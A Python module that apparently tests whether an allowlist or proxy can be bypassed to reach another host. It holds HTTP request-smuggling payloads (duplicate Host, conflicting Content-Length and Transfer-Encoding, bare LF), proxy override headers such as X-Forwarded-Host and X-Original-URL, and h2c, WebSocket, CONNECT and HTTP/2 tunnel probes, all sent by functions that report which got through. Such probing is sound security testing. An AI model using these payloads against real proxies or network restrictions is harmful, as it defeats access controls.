"""heads - requests to a listed host that another one, or another reader, could be meant by."""

from wire import LISTED, OTHER, SECRET, exchange

HOST = f"Host: {LISTED}\r\n"
CHUNK = f"{len(SECRET):x}\r\n"  # in front of it: then it is a part of a body

# What two readers could understand differently: the second one finds another host, or a request.
ODD = {
    "two Hosts": f"GET /secret HTTP/1.1\r\nHost: {OTHER}\r\n{HOST}\r\n",
    "no Host": "GET /secret HTTP/1.0\r\n\r\n",
    "Host on two lines": f"GET /secret HTTP/1.1\r\nHost:\r\n {OTHER}\r\n\r\n",
    "space before the colon": f"GET /secret HTTP/1.1\r\nHost : {OTHER}\r\n{HOST}\r\n",
    "bare LF": f"GET /secret HTTP/1.1\nHost: {OTHER}\n\n",
    "absolute target": f"GET http://{OTHER}/secret HTTP/1.1\r\n{HOST}\r\n",
    "length and chunks": f"POST / HTTP/1.1\r\n{HOST}Transfer-Encoding: chunked\r\n"
    f"Content-Length: {len(CHUNK)}\r\n\r\n{CHUNK}{SECRET.decode()}\r\n0\r\n\r\n",
    "two lengths": f"POST / HTTP/1.1\r\n{HOST}Content-Length: 0\r\nContent-Length: {len(SECRET)}\r\n\r\n{SECRET.decode()}",
    "a signed length": f"POST / HTTP/1.1\r\n{HOST}Content-Length: +0\r\n\r\n{SECRET.decode()}",
}

# What a proxy obeys, and what servers believe when they are, or think that they are, behind one.
NAMED = (
    "Connection: close, Content-Length",
    f"X-Forwarded-Host: {OTHER}",
    f"X-Forwarded-Host: {LISTED}, {OTHER}",
    f"X-Forwarded-Server: {OTHER}",
    f"X-Original-Host: {OTHER}",
    f"X-Host: {OTHER}",
    f"X-HTTP-Host-Override: {OTHER}",
    f"X-Rewrite-URL: http://{OTHER}/secret",
    f"X-Original-URL: //{OTHER}/secret",
    f"Forwarded: for=192.0.2.1, host={OTHER}",
    f'Forwarded: for="a";host="{OTHER}"',
)


def host() -> str:
    """Fronting by Host."""
    said = exchange(LISTED, 80, SECRET).decode()
    return said if f"{OTHER} /secret" in said else ""


def second() -> str:
    """Pipelining: the second request of a connection is for another host."""
    said = exchange(LISTED, 80, f"GET / HTTP/1.1\r\n{HOST}\r\n".encode() + SECRET).decode()
    return said if f"{OTHER} /secret" in said else ""


def odd() -> str:
    """Request smuggling: heads and bodies that two readers understand differently."""
    through = [what for what, request in ODD.items() if b"secret" in exchange(LISTED, 80, request.encode())]
    return f"{len(through)} of {len(ODD)}: {', '.join(through)}" if through else ""


def forwarded() -> str:
    """Fronting by a field of proxies."""
    through = [field for field in NAMED if exchange(LISTED, 80, f"GET / HTTP/1.1\r\n{HOST}{field}\r\n\r\n".encode())]
    return f"{len(through)} of {len(NAMED)}: {', '.join(through)}" if through else ""


def upgrade() -> str:
    """Upgrade: h2c, after which a connection is another protocol."""
    more = "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n"
    return exchange(LISTED, 80, f"GET /secret HTTP/1.1\r\n{HOST}{more}\r\n".encode()).decode()


def declined() -> str:
    """A request for another host behind an Upgrade that the server declines."""
    more = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: eA==\r\n"
    said = exchange(LISTED, 80, f"GET / HTTP/1.1\r\n{HOST}{more}\r\n".encode() + SECRET).decode()
    return said if f"{OTHER} /secret" in said else ""


def tunnel() -> str:
    """CONNECT, and HTTP/2 without TLS."""
    ways = [f"CONNECT {OTHER}:80 HTTP/1.1\r\n{HOST}\r\n", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"]
    return ", ".join(way for way in ways if exchange(LISTED, 80, way.encode()))
